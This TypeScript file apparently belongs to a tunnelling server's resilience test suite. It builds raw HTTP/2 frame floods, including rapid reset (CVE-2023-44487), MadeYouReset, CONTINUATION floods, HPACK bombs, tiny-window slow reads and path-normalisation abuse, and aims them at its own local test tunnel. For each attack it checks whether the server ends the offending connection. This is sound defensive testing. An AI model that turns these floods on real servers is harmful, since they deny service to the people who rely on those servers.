// HTTP/2 connections made of what the protocol allows and no visitor needs. The honest visitors speak HTTP/1.1 to the same port.

import { once } from 'node:events'
import { connect } from 'node:http2'
import { join } from 'node:path'
import type { GuardOptions } from '../../../src/index.ts'
import type { Attack, Evidence, Tally, Target } from '../scene/attack.ts'
import {
  block,
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  floods,
  frame,
  HEADERS,
  literal,
  openTls,
  PING,
  RST_STREAM,
  SETTINGS,
  text,
  u32,
  WINDOW_UPDATE,
} from '../scene/http2.ts'
import type { Scene } from '../scene/scene.ts'
import { add, loops } from '../scene/wire.ts'

const BUSY = 'busy'
const BUSY_HOST = `${BUSY}.localhost`
const BATCH = 100
const CONNECTIONS = 20
const many = (make: (index: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: BATCH }, (_, i) => make(i)))

/** A smoke run of a second on a busy machine proves nothing. */
const JUDGED_SECONDS = 3
/** A flood has to end its own connection; who reads nothing does not see that. */
const mustEnd = ({ tally, seconds }: Evidence): readonly string[] =>
  seconds < JUDGED_SECONDS || (tally.ended ?? 0) > 0 ? [] : ['no connection was ended']

/** Two hundred handshakes a second leave garbage that is collected behind them: 110 to 170 MB were seen. */
const HANDSHAKES = { serverMb: 200 }

/** Each batch is the same frames, on no stream or always the same one. */
const same = (bytes: Buffer) => (stream: number) => ({ bytes, next: stream })

export const attacks: readonly Attack[] = [
  {
    name: 'h2-rapid-reset',
    does: `${CONNECTIONS} connections: requests to another tunnel, each reset at once (CVE-2023-44487)`,
    isTls: true,
    prepare: scene => openBusy(scene),
    attack: (...all) => {
      const head = block(BUSY_HOST, 'GET', '/bytes/1')
      return floods(CONNECTIONS, all, {}, stream => ({
        bytes: many(i =>
          Buffer.concat([
            frame(HEADERS, END_HEADERS | END_STREAM, stream + 2 * i, head),
            frame(RST_STREAM, 0, stream + 2 * i, u32(8)),
          ]),
        ),
        next: stream + 2 * BATCH,
      }))
    },
    judge: mustEnd,
  },
  {
    name: 'h2-made-resets',
    does: `${CONNECTIONS} connections: requests to another tunnel that the server has to reset (CVE-2025-8671)`,
    isTls: true,
    prepare: scene => openBusy(scene),
    attack: (...all) => {
      const head = block(BUSY_HOST, 'GET', '/bytes/1')
      return floods(CONNECTIONS, all, {}, stream => ({
        bytes: many(i =>
          Buffer.concat([
            frame(HEADERS, END_HEADERS | END_STREAM, stream + 2 * i, head),
            frame(WINDOW_UPDATE, 0, stream + 2 * i, u32(0)),
          ]),
        ),
        next: stream + 2 * BATCH,
      }))
    },
    judge: mustEnd,
  },
  {
    name: 'h2-continuation',
    does: `${CONNECTIONS} connections: a head that goes on in CONTINUATION frames and never ends`,
    isTls: true,
    attack: (target, ...rest) => {
      const piece = frame(CONTINUATION, 0, 1, literal('x', 'y'.repeat(100)))
      return floods(CONNECTIONS, [target, ...rest], {}, stream => ({
        bytes: Buffer.concat([
          ...(stream === 1 ? [frame(HEADERS, END_STREAM, 1, block(target.honestHost, 'GET', '/'))] : []),
          many(() => piece),
        ]),
        next: 3,
      }))
    },
    judge: mustEnd,
  },
  {
    name: 'h2-settings',
    does: `${CONNECTIONS} connections: SETTINGS frames, none of whose acknowledgements is read`,
    isTls: true,
    bounds: HANDSHAKES,
    attack: (...all) => floods(CONNECTIONS, all, { reads: false }, same(many(() => frame(SETTINGS, 0, 0)))),
  },
  {
    name: 'h2-pings',
    does: `${CONNECTIONS} connections: PING frames, none of whose answers is read`,
    isTls: true,
    bounds: HANDSHAKES,
    attack: (...all) =>
      floods(CONNECTIONS, all, { reads: false }, same(many(() => frame(PING, 0, 0, 'pingping')))),
  },
  {
    name: 'h2-empty-frames',
    does: `${CONNECTIONS} connections: a request body of empty DATA frames`,
    isTls: true,
    attack: (target, ...rest) =>
      floods(CONNECTIONS, [target, ...rest], {}, stream => ({
        bytes: Buffer.concat([
          ...(stream === 1
            ? [frame(HEADERS, END_HEADERS, 1, block(target.honestHost, 'POST', '/echo'))]
            : []),
          many(() => frame(DATA, 0, 1)),
        ]),
        next: 3,
      })),
    judge: mustEnd,
  },
  {
    name: 'h2-hpack-bombs',
    does: `${CONNECTIONS} connections: heads of 4,000 references to one field of 4,000 bytes`,
    isTls: true,
    bounds: HANDSHAKES,
    attack: (target, ...rest) => {
      // With indexing.
      const entry = Buffer.concat([Buffer.from([0x40]), text('b'), text('x'.repeat(3_900))])
      const plain = block(target.honestHost, 'GET', '/bytes/1')
      const bomb = Buffer.concat([plain, Buffer.alloc(4_000, 0x80 | 62)])
      return floods(CONNECTIONS, [target, ...rest], {}, stream => ({
        bytes: Buffer.concat(
          Array.from({ length: 10 }, (_, i) =>
            frame(
              HEADERS,
              END_HEADERS | END_STREAM,
              stream + 2 * i,
              stream + i === 1 ? Buffer.concat([plain, entry]) : bomb,
            ),
          ),
        ),
        next: stream + 20,
      }))
    },
    judge: mustEnd,
  },
  {
    name: 'h2-tiny-windows',
    does: `${CONNECTIONS} connections with windows of a byte that ask another tunnel for 100 large answers each and take them a byte at a time`,
    isTls: true,
    // What visitors do not take waits at the server: `maxTokenBufferedBytes` is 512 MiB.
    bounds: { serverMb: 600 },
    prepare: scene => openBusy(scene),
    attack: (...all) => {
      // The app streams answers of this size: shorter ones it keeps whole, and would be what gives in.
      const head = block(BUSY_HOST, 'GET', '/bytes/3000000')
      const windowOfOne = Buffer.concat([Buffer.from([0, 4]), u32(1)])
      return floods(
        CONNECTIONS,
        all,
        { settings: windowOfOne },
        stream => ({
          bytes:
            stream === 1
              ? many(i => frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, head))
              : many(i => frame(WINDOW_UPDATE, 0, 1 + 2 * i, u32(1))),
          next: 3,
        }),
        20,
      )
    },
  },
  {
    name: 'h2-slow-streams',
    does: `${CONNECTIONS} connections with 100 request bodies each, to another tunnel, that drip`,
    isTls: true,
    prepare: scene => openBusy(scene),
    attack: (...all) => {
      const head = block(BUSY_HOST, 'POST', '/echo')
      return floods(
        CONNECTIONS,
        all,
        {},
        stream => ({
          bytes:
            stream === 1
              ? many(i => frame(HEADERS, END_HEADERS, 1 + 2 * i, head))
              : frame(DATA, 0, 1 + 2 * (stream % BATCH), 'x'),
          next: stream + 2,
        }),
        100,
      )
    },
  },
  {
    name: 'h2-beyond-limit',
    does: `${CONNECTIONS} connections: requests to another tunnel without waiting for an answer, far more than may be under way`,
    isTls: true,
    prepare: scene => openBusy(scene),
    attack: (...all) => {
      const head = block(BUSY_HOST, 'GET', `/bytes/1?${'x'.repeat(500)}`)
      return floods(CONNECTIONS, all, {}, stream => ({
        bytes: many(i => frame(HEADERS, END_HEADERS | END_STREAM, stream + 2 * i, head)),
        next: stream + 2 * BATCH,
      }))
    },
    judge: mustEnd,
  },
  {
    name: 'h2-odd-paths',
    does: `${CONNECTIONS} connections, each 20 requests at a time to a tunnel with rules for paths, for one that apps read in many ways`,
    isTls: true,
    prepare: scene =>
      openBusy(scene, {
        bearer: 'a-token-of-a-machine',
        paths: { '/api': { bearer: 'a-token-of-another' } },
      }),
    attack: (target, tally, until) => {
      // The dearest that the server looks at, found at random: 14 readings of 93 characters.
      const path = `/${'/./././/./..%2f%09'.repeat(5)}`
      return loops(CONNECTIONS, until, () => askAll(target, BUSY_HOST, path, 20, tally, until))
    },
  },
]

/** One connection that has so many requests under way until it ends. */
async function askAll(
  target: Target,
  host: string,
  path: string,
  atOnce: number,
  tally: Tally,
  until: AbortSignal,
): Promise<void> {
  const socket = await openTls(target)
  const session = connect(`https://${host}`, { createConnection: () => socket })
  session.on('error', () => {})
  add(tally, 'connections')
  const ask = (): void => {
    if (session.destroyed || until.aborted) return
    const stream = session.request({ ':path': path, ':authority': host })
    stream.on('error', () => {})
    stream.on('response', ({ ':status': status }) => add(tally, `status ${status}`))
    stream.on('close', ask)
    stream.resume()
  }
  session.on('connect', () => {
    for (let count = 0; count < atOnce; count++) ask()
  })
  await Promise.race([once(session, 'close'), once(until, 'abort')])
  session.destroy()
}

/**
 * A tunnel beside that of the honest visitors. Thousands of requests under way keep any app and its client busy: what is asked here is
 * what other tunnels see of it.
 */
async function openBusy(scene: Scene, guard?: GuardOptions): Promise<void> {
  const app = await scene.addProgram(
    ['bun', join(import.meta.dir, '../scene/app-process.ts')],
    /^ready (\d+) (\d+) (\d+)$/,
  )
  await scene.addClient({
    isTls: true,
    subdomain: BUSY,
    app: Number(app.match?.[1]),
    ...(guard && { guard }),
  })
}
